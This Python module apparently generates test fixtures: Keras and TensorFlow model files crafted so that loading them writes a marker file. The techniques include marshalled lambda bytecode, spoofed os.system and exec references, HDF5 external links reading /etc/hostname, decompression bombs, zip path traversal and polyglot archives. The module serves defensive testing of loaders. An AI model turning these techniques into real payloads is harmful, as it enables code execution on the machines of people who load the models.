"""Model files that would touch a file if they were loaded: one function for each way in.

Each takes a folder and the path that its payload would touch, and returns the file it wrote.
"""

from __future__ import annotations

import base64
import functools
import gzip
import io
import json
import marshal
import os
import tempfile
import warnings
import zipfile
from pathlib import Path

import h5py
import tensorflow as tf
import tf_keras
from tensorflow.core.protobuf import saved_model_pb2

ATTACKS = {}


def attack(name):
    def register(make):
        ATTACKS[name] = make
        return make

    return register


# Honest files, by Keras 2.


def network():
    tf_keras.utils.set_random_seed(1)
    image = tf_keras.Input((8, 8, 3), name="image")
    flat = tf_keras.layers.Flatten(name="flat")(image)
    return tf_keras.Model(image, tf_keras.layers.Dense(3, name="out")(flat))


@functools.cache
def honest(name):
    """The network's file, as bytes."""
    with tempfile.TemporaryDirectory() as folder, warnings.catch_warnings(action="ignore"):
        path = Path(folder) / name
        network().save(path)  # and Keras advises to use .keras instead of .h5
        return path.read_bytes()


def honest_h5(folder):
    return rewritten(folder, honest("net.h5"), "net.h5")


def honest_keras(folder):
    return rewritten(folder, honest("net.keras"))


def h5_with(change):
    """An `.h5` whose configuration was changed."""

    def make(folder, trace):
        path = honest_h5(folder)
        with h5py.File(path, "r+") as file:
            config = json.loads(file.attrs["model_config"])
            change(config, trace)
            file.attrs["model_config"] = json.dumps(config)
        return path

    return make


def members_of(path):
    with zipfile.ZipFile(path) as file:
        return {name: file.read(name) for name in file.namelist()}


def archive(members, into=b""):
    buffer = io.BytesIO(into)
    with zipfile.ZipFile(buffer, "a") as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


def keras_with(change):
    """A `.keras` whose configuration was changed."""

    def make(folder, trace):
        path = honest_keras(folder)
        members = members_of(path)
        config = json.loads(members["config.json"])
        change(config, trace)
        path.write_bytes(archive({**members, "config.json": json.dumps(config)}))
        return path

    return make


def rewritten(folder, data, name="net.keras"):
    (folder / name).write_bytes(data)
    return folder / name


# Python code.


def python(trace):
    """A function of one argument that touches the trace, as Keras stores it."""
    source = f"lambda x: [x, __import__('pathlib').Path({str(trace)!r}).touch()][0]"
    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode()


def lambda_layer(trace, name="l"):
    config = {"name": name, "trainable": True, "dtype": "float32", "function_type": "lambda"}
    config |= {"function": [python(trace), None, None], "module": "builtins", "arguments": {}}
    config |= {"output_shape": None, "output_shape_type": "raw", "output_shape_module": None}
    return {"class_name": "Lambda", "config": config, "name": name}


def layers_of(config):
    return config["config"]["layers"]


def insert(config, layer, inbound=(("flat", 0, 0, {}),)):
    """Put a layer between the last two."""
    layers = layers_of(config)
    layers.insert(2, {**layer, "inbound_nodes": [list(map(list, inbound))]})
    layers[3]["inbound_nodes"] = [[[layer["name"], 0, 0, {}]]]


def with_lambda(config, trace):
    insert(config, lambda_layer(trace))


def operator(name, config, node):
    layer = {"class_name": name, "name": "op"}
    layer["config"] = {"name": "op", "trainable": True, "dtype": "float32", **config}
    return {**layer, "inbound_nodes": node}


def calls(name, function, constant=None, **more):
    """An operator layer that calls a symbol of TensorFlow while the network is built."""

    def change(config, trace):
        value = str(trace) if constant is None else constant(trace)
        node = [["_CONSTANT_VALUE", -1, value, more]]
        layers_of(config).insert(2, operator(name, {"function": function}, node))

    return change


def inner_network(trace):
    first = {"batch_input_shape": [None, 4], "dtype": "float32", "name": "i"}
    layers = [{"class_name": "InputLayer", "config": first}, lambda_layer(trace)]
    return json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": layers}})


ATTACKS["lambda.h5"] = h5_with(with_lambda)
for _function, _constant, _more in (
    ("keras.models.model_from_json", inner_network, {}),
    ("keras.models.model_from_config", inner_network, {}),
    ("keras.models.load_model", None, {}),
    ("keras.utils.get_file", None, {"origin": "file:///etc/hostname"}),
    ("load_op_library", None, {}),
    ("load_library", None, {}),
    ("compat.v1.gfile.Copy", lambda _: "/etc/hostname", {"newpath": "x", "overwrite": True}),
    ("compat.v1.gfile.MkDir", None, {}),
    ("io.write_file", None, {"contents": "x"}),
    ("io.gfile.makedirs", None, {}),
    ("raw_ops.WriteFile", None, {"contents": "x"}),
    (" io.write_file", None, {"contents": "x"}),
    ("print", None, {"output_stream": "file:///tmp/x"}),
    ("summary.create_file_writer", None, {}),
    ("py_function", None, {}),
    ("compat.v1.py_func", None, {}),
    ("saved_model.load", None, {}),
    ("profiler.experimental.start", None, {}),
):
    for _kind in ("TFOpLambda", "SlicingOpLambda"):
        ATTACKS[f"{_kind}:{_function}"] = h5_with(calls(_kind, _function, _constant, **_more))


@attack("TFOpLambda without a name")
def _(folder, trace):
    return h5_with(calls("TFOpLambda", ["io.write_file"], contents="x"))(folder, trace)


def class_method(config, trace):
    node = [["_CONSTANT_VALUE", -1, [str(trace)], {"kwargs": {}}]]
    conf = {"cls_symbol": "io.TFRecordWriter", "method_name": "__call__"}
    layers_of(config).insert(2, operator("ClassMethod", conf, node))


def instance(name):
    def change(config, trace):
        node = [["flat", 0, 0, {"args": [], "kwargs": {}}]]
        layers_of(config).insert(2, operator(name, {"attr_name": "__reduce__"}, node))

    return change


def graph_operator(config, trace):
    node = {"name": "w", "op": "WriteFile", "input": ["flat", "x"], "attr": {}}
    conf = {"node_def": node, "constants": {"0": str(trace), "1": "x"}}
    layers_of(config).insert(2, operator("TensorFlowOpLayer", conf, [["flat", 0, 0, {}]]))


def graph_operator_in_bytes(config, trace):
    conf = {"node_def": "\n\x01w\x12\tWriteFile", "constants": {"0": str(trace), "1": "x"}}
    layers_of(config).insert(2, operator("TensorFlowOpLayer", conf, [["flat", 0, 0, {}]]))


def composite(config, trace):
    text = json.dumps({"class_name": "CompositeTensor", "spec": {}, "tensors": []})
    value = {"class_name": "__tuple__", "items": ["_COMPOSITE_TYPE", text]}
    calls("TFOpLambda", "math.add", lambda _: value, y=1)(config, trace)


ATTACKS["ClassMethod"] = h5_with(class_method)
ATTACKS["InstanceMethod"] = h5_with(instance("InstanceMethod"))
ATTACKS["InstanceProperty"] = h5_with(instance("InstanceProperty"))
ATTACKS["TensorFlowOpLayer"] = h5_with(graph_operator)
ATTACKS["TensorFlowOpLayer in bytes"] = h5_with(graph_operator_in_bytes)
ATTACKS["a composite constant"] = h5_with(composite)


def last(change):
    """Change the last layer."""

    def at(config, trace):
        change(layers_of(config)[-1], trace)

    return at


def renamed(**names):
    return last(lambda layer, _: layer.update(names))


def with_setting(key, value):
    return last(lambda layer, trace: layer["config"].__setitem__(key, value(trace)))


def function(module, name, registered=None):
    body = {"class_name": "function", "module": module, "config": name}
    body["registered_name"] = registered or name
    return with_setting("activation", lambda _: body)


def typespec(module, name):
    body = {"class_name": "__typespec__", "spec_name": name, "module": module, "config": []}
    return with_setting("activity_regularizer", lambda _: {**body, "registered_name": None})


def nested(layer):
    """A layer inside of TimeDistributed."""

    def change(config, trace):
        inside = {"name": "t", "trainable": True, "dtype": "float32", "layer": layer(trace)}
        wrapper = {"class_name": "TimeDistributed", "config": inside, "name": "t"}
        insert(config, {**wrapper, "module": "keras.layers", "registered_name": None})

    return change


def lookup(name, key="vocabulary", value=str):
    def layer(trace):
        inside = {"name": "v", key: value(trace)}
        names = {"module": "keras.layers", "registered_name": None}
        return {"class_name": name, "config": inside, "name": "v", **names}

    return layer


def in_place_of(data):
    """The word for a value as a class that is imported by its second name."""
    alias = {"class_name": data, "module": "tf_keras.src.utils.data_utils", "config": {}}
    return with_setting("units", lambda _: {**alias, "registered_name": "get_file"})


def without_slash(trace):
    """Bytecode in base64 that does not look like a path."""
    for length in range(1000):
        source = f"lambda x, y: [x, open({str(trace)!r}, 'w'), {'a' * length!r}][0]"
        text = base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
        if "/" not in text:
            return text
    raise AssertionError("every length has a slash")


def cell(name, key):
    """A wrapper of a recurrent cell, which calls a function of the file."""

    def change(config, trace):
        inner = {"class_name": "SimpleRNNCell", "config": {"units": 48, "name": "inner"}}
        inside = {"name": "w", "dtype": "float32", "trainable": True, "cell": inner}
        inside |= {key: [without_slash(trace), None, None], f"{key}_type": "lambda"}
        wrapper = {"class_name": name, "config": {**inside, f"{key}_module": "builtins"}}
        rnn = {"name": "r", "trainable": True, "dtype": "float32", "cell": wrapper}
        steps = {"class_name": "Reshape", "config": {"name": "s", "target_shape": [4, 48]}}
        insert(config, {"class_name": "RNN", "config": rnn, "name": "r"}, [("s", 0, 0, {})])
        flat = [[["flat", 0, 0, {}]]]
        layers_of(config).insert(2, {**steps, "name": "s", "inbound_nodes": flat})

    return change


def composite_of_a_layer(config, trace):
    """Of no operator: any layer's input may be such a constant."""
    text = json.dumps({"class_name": "TypeSpec", "type_spec": "x", "serialized": []})
    pair = {"class_name": "__tuple__", "items": [{"_TYPE": "COMPOSITE"}, text]}
    layers_of(config)[-1]["inbound_nodes"] = [["_CONSTANT_VALUE", -1, pair, {}]]


def too_deep(config, _):
    value = {}
    for _ in range(300):
        value = {"x": value}
    layers_of(config)[-1]["config"]["extra"] = value


def unmarked(trace):
    return {"class_name": "__lambda__", "config": {"value": [python(trace), None, None]}}


for _name, _change in {
    "a registered Lambda": renamed(registered_name="Lambda"),
    "a registered package": renamed(registered_name="evil>Lambda"),
    "a list of names": renamed(registered_name=["Dense"]),
    "Dense of os": renamed(module="os"),
    "Functional of utils": renamed(class_name="Functional", module="keras.src.utils.io_utils"),
    "Dense of a Keras module": renamed(module="tf_keras.src.utils.data_utils"),
    "a class that is a function": renamed(class_name="get_file", module="keras.utils"),
    "a class of another class": renamed(class_name="Model.from_config", module="keras"),
    "TFSMLayer": renamed(class_name="TFSMLayer"),
    "a Lambda with a package": renamed(class_name="keras>Lambda"),
    "os.system": function("os", "system"),
    "builtins.exec": function("builtins", "exec"),
    "keras.utils.get_file": function("keras.utils", "get_file"),
    "keras.saving.load_model": function("keras.saving", "load_model"),
    "keras.config.enable_unsafe_deserialization": function(
        "keras.config", "enable_unsafe_deserialization"
    ),
    "a function's other name": function("keras.utils", "relu", "get_file"),
    "a string that is a function": with_setting("activation", lambda _: "deserialize"),
    "a string that is an initializer": with_setting("kernel_initializer", lambda _: "eval"),
    "__lambda__": with_setting("activation", unmarked),
    "__typespec__": typespec("os", "system"),
    "bytes": with_setting(
        "bias_constraint", lambda t: {"class_name": "__bytes__", "config": {"value": str(t)}}
    ),
    "a path to weights": with_setting("weights", lambda _: "weights.npz"),
    "a path of another name": with_setting("units", lambda _: "../secret"),
    "JSON in a string": with_setting("dtype", inner_network),
    "a value that is a class": in_place_of("TensorShape"),
    "a slice that is a class": in_place_of("__slice__"),
    "ResidualWrapper": cell("ResidualWrapper", "residual_fn"),
    "DropoutWrapper": cell("DropoutWrapper", "dropout_fn"),
    "DeviceWrapper": cell("DeviceWrapper", "device"),
    "a composite constant of a layer": composite_of_a_layer,
    "bytecode as a setting": with_setting("anything", without_slash),
    "TorchModuleWrapper": renamed(class_name="TorchModuleWrapper"),
    "JaxLayer": renamed(class_name="JaxLayer"),
    "too deep": too_deep,
    "a vocabulary": nested(lookup("StringLookup")),
    "a vocabulary beside the model": nested(lookup("TextVectorization", value=lambda _: "v.txt")),
    "weights of words": nested(lookup("IntegerLookup", "idf_weights", lambda _: "w.txt")),
}.items():
    ATTACKS[f"{_name}, .keras"] = keras_with(_change)
    ATTACKS[f"{_name}, .h5"] = h5_with(_change)


@attack("training of a nested network")
def _(folder, trace):
    def change(config, trace):
        inside = json.loads(json.dumps(config))
        loss = {"class_name": "__lambda__", "config": {"value": [python(trace), None, None]}}
        inside["compile_config"] = {"loss": loss}
        inside["config"]["layers"][2]["config"]["weights"] = "x.npz"
        layers_of(config)[2].update(inside)

    return keras_with(change)(folder, trace)


# Weights that are not in the file, or larger than it.


def external_link(group, trace):
    group["stolen"] = h5py.ExternalLink("/etc/hostname", "/")


def external_values(group, trace):
    group.create_dataset("stolen", (5,), "u1", external=[("/etc/hostname", 0, 5)])


def shape_bomb(group, trace):
    group.create_dataset("large", (1 << 32,), "f4", chunks=(1 << 20,), compression="gzip")


def chunk_bomb(group, trace):
    """One value, which is unpacked with 2 GB of others."""
    options = {"chunks": (1 << 29,), "maxshape": (None,), "compression": "gzip"}
    group.create_dataset("large", (1,), "f4", **options)


def deep_groups(group, trace):
    for _ in range(300):
        group = group.create_group("g")


for _change in (external_link, external_values, shape_bomb, chunk_bomb, deep_groups):

    @attack(f"{_change.__name__}, .h5")
    def _(folder, trace, change=_change):
        path = honest_h5(folder)
        with h5py.File(path, "r+") as file:
            change(file["model_weights"], trace)
        return path

    @attack(f"{_change.__name__}, .keras")
    def _(folder, trace, change=_change):
        path = honest_keras(folder)
        members = members_of(path)
        file = rewritten(folder, members["model.weights.h5"], "weights.h5")
        with h5py.File(file, "r+") as weights:
            change(weights, trace)
        changed = {**members, "model.weights.h5": file.read_bytes()}
        file.unlink()
        return rewritten(folder, archive(changed))


# Files that are two files.


def hidden_h5(folder, trace, block=512):
    """An HDF5 with a Lambda, behind a user block."""
    bad = h5_with(with_lambda)(folder, trace)
    path = folder / "block.h5"
    with h5py.File(bad) as old, h5py.File(path, "w", userblock_size=block) as new:
        for key, value in old.attrs.items():
            new.attrs[key] = value
        for key in old:
            old.copy(key, new)
    return path


@attack("HDF5 behind a zip's head")
def _(folder, trace):
    path = hidden_h5(folder, trace)
    data = b"PK\x03\x04" + path.read_bytes()[4:]
    return rewritten(folder, archive(members_of(honest_keras(folder)), data), "net.h5")


@attack("HDF5 behind a whole zip")
def _(folder, trace):
    front = archive(members_of(honest_keras(folder)))
    path = hidden_h5(folder, trace, 1 << (len(front) - 1).bit_length())
    data = path.read_bytes()
    return rewritten(folder, front + data[len(front) :], "net.h5")


@attack("a user block")
def _(folder, trace):
    return hidden_h5(folder, trace)


@attack("a zip behind HDF5")
def _(folder, trace):
    bad = members_of(keras_with(with_lambda)(folder, trace))
    return rewritten(folder, archive(bad, honest_h5(folder).read_bytes()))


def zip_inside(folder, trace):
    """An honest HDF5 with an archive as a tensor, under the archive's suffix: only numbers."""
    bad = archive(members_of(keras_with(with_lambda)(folder, trace)))
    path = honest_h5(folder)
    with h5py.File(path, "r+") as file:
        file.create_dataset("z", data=[*bad], dtype="u1")
    return path.rename(folder / "net.keras")


@attack("no network")
def _(folder, trace):
    return rewritten(folder, archive({**members_of(honest_keras(folder)), "config.json": "{}"}))


def changed_archive(change):
    def make(folder, trace):
        return rewritten(folder, change(archive(members_of(honest_keras(folder)))))

    return make


def gap(data):
    """A member that is in no list, between two that are."""
    members = zipfile.ZipFile(io.BytesIO(data)).infolist()
    at = members[1].header_offset
    hole = b"PK\x03\x04" + bytes(26)
    moved = bytearray(data[:at] + hole + data[at:])
    for place in _central(moved):
        offset = int.from_bytes(moved[place + 42 : place + 46], "little")
        if offset >= at:
            moved[place + 42 : place + 46] = (offset + len(hole)).to_bytes(4, "little")
    end = moved.rindex(b"PK\x05\x06")
    start = int.from_bytes(moved[end + 16 : end + 20], "little") + len(hole)
    moved[end + 16 : end + 20] = start.to_bytes(4, "little")
    return bytes(moved)


def _central(data):
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        yield at
        at = data.find(b"PK\x01\x02", at + 4)


def other_name(data):
    """config.json by the list of files, and something else by the header in front of it."""
    at = data.index(b"config.json")
    return data[:at] + b"cOnfig.json" + data[at + 11 :]


def comment(data):
    return data[:-2] + (4).to_bytes(2, "little") + b"#!/x"


ATTACKS["bytes in front of a zip"] = changed_archive(lambda data: b"PK\x03\x04" + bytes(60) + data)
ATTACKS["bytes behind a zip"] = changed_archive(lambda data: data + bytes(30))
ATTACKS["a comment of a zip"] = changed_archive(comment)
ATTACKS["a gap in a zip"] = changed_archive(gap)
ATTACKS["two names of one member"] = changed_archive(other_name)


def with_member(name, content=b"x"):
    def make(folder, trace):
        members = members_of(honest_keras(folder))
        return rewritten(folder, archive({**members, name: content}))

    return make


ATTACKS["a member outside"] = with_member("../../x")
ATTACKS["an asset"] = with_member("assets/layers/string_lookup/vocabulary.txt")
ATTACKS["an archive of arrays"] = with_member("model.weights.npz")


@attack("HDF5 in a zip")
def _(folder, trace):
    return rewritten(folder, archive({"net.h5": h5_with(with_lambda)(folder, trace).read_bytes()}))


@attack("HDF5 in gzip")
def _(folder, trace):
    data = gzip.compress(h5_with(with_lambda)(folder, trace).read_bytes())
    return rewritten(folder, data, "net.h5")


@attack("HDF5 with something behind it")
def _(folder, trace):
    return rewritten(folder, honest_h5(folder).read_bytes() + bytes(8), "net.h5")


# SavedModels.


def saved_model(folder, body, **parts):
    module = tf.Module()
    module.weights = tf.Variable(tf.random.stateless_normal((192, 3), (1, 2)))
    for name, part in parts.items():
        setattr(module, name, part)

    @tf.function(input_signature=[tf.TensorSpec((None, 8, 8, 3), tf.float32, name="image")])
    def serve(image):
        body(image)
        return {"out": tf.reshape(image, (-1, 192)) @ module.weights}

    module.serve = serve
    tf.saved_model.save(module, str(folder / "net"), signatures=serve)
    return folder / "net"


def nothing(image):
    pass


def write(trace):
    return tf.io.write_file(str(trace), "x")


def writer(trace, **options):
    """A function of the graph that writes and gives nothing."""
    return tf.function(lambda: (write(trace), None)[1], **options)


def graph(name, body):
    """A SavedModel whose function calls `body` with the image and the trace."""
    ATTACKS[name] = lambda folder, trace: saved_model(folder, lambda image: body(image, trace))


def records(_, trace):
    variant = tf.data.Dataset.from_tensors(tf.constant("x"))._variant_tensor
    tf.raw_ops.DatasetToTFRecord(input_dataset=variant, filename=str(trace), compression_type="")


def branch(image, trace):
    tf.cond(tf.size(image) > 0, lambda: (write(trace), 0)[1], lambda: 1)


def loop(_, trace):
    def body(i):
        with tf.control_dependencies([write(trace)]):
            return [i + 1]

    tf.while_loop(lambda i: i < 1, body, [0])


def checkpoint(trace):
    """What is read: a checkpoint at the trace."""
    return tf.raw_ops.RestoreV2(
        prefix=str(trace), tensor_names=["x"], shape_and_slices=[""], dtypes=[tf.float32]
    )


def checkpoint_written(image, trace):
    tf.raw_ops.SaveV2(prefix=str(trace), tensor_names=["x"], shape_and_slices=[""], tensors=[image])


graph("an operator that writes", lambda _, trace: write(trace))
graph("an operator that reads", lambda *_: tf.io.read_file("/etc/hostname"))
graph("records", records)
graph("the branch of a condition", branch)
graph("the body of a loop", loop)
graph("a called function", lambda _, trace: writer(trace)())
graph("Python's function", lambda image, _: tf.py_function(lambda y: y, [image], tf.float32))
graph("a checkpoint that is read", lambda _, trace: checkpoint(trace))
graph("a checkpoint that is written", checkpoint_written)


@attack("a function that nothing calls")
def _(folder, trace):
    return saved_model(folder, nothing, other=writer(trace, input_signature=[]))


class Restored(tf.Module):
    """Restoring it runs a function of the graph."""

    def __init__(self, trace):
        super().__init__()
        self.trace = trace

    def _serialize_to_tensors(self):
        return {"x": tf.constant(1.0)}

    def _restore_from_tensors(self, tensors):
        return write(self.trace)


@attack("the function that restores")
def _(folder, trace):
    return saved_model(folder, nothing, part=Restored(trace))


class Resource(tf.saved_model.experimental.TrackableResource):
    """Its initializer is run when it is loaded."""

    def __init__(self, trace):
        super().__init__()
        self.trace = trace

    def _create_resource(self):
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=())

    def _initialize(self):
        write(self.trace)


@attack("the initializer of a resource")
def _(folder, trace):
    return saved_model(folder, nothing, part=Resource(trace))


@attack("an asset of a SavedModel")
def _(folder, trace):
    (folder / "words.txt").write_text("x", encoding="utf-8")
    return saved_model(folder, nothing, part=tf.saved_model.Asset(str(folder / "words.txt")))


def changed_graph(folder, change, body=nothing):
    path = saved_model(folder, body)
    saved = saved_model_pb2.SavedModel()
    saved.ParseFromString((path / "saved_model.pb").read_bytes())
    change(saved.meta_graphs[0])
    (path / "saved_model.pb").write_bytes(saved.SerializeToString())
    return path


@attack("two functions of one name")
def _(folder, trace):
    def change(graph):
        for function in list(graph.graph_def.library.function):
            graph.graph_def.library.function.add().signature.name = function.signature.name

    return changed_graph(folder, change, lambda _: write(trace))


@attack("a function called like an operator")
def _(folder, trace):
    def change(graph):
        graph.graph_def.library.function.add().signature.name = "WriteFile"

    return changed_graph(folder, change, lambda _: write(trace))


@attack("a checkpoint that serving reads")
def _(folder, trace):
    """By TensorFlow 1's graph: the node that restores, at the path that is in the file."""

    def change(graph):
        graph.ClearField("object_graph_def")
        with tf.Graph().as_default() as read:
            node = checkpoint(trace)[0].op
        graph.graph_def.node.extend(read.as_graph_def().node)
        graph.saver_def.filename_tensor_name = node.inputs[0].name
        graph.saver_def.restore_op_name = node.name
        graph.signature_def["serving_default"].outputs["out"].name = node.outputs[0].name

    return changed_graph(folder, change)


@attack("a link in a SavedModel")
def _(folder, trace):
    path = saved_model(folder, nothing)
    file = path / "variables" / "variables.index"
    file.rename(folder / "elsewhere")
    os.symlink(folder / "elsewhere", file)  # noqa: PTH211
    return path
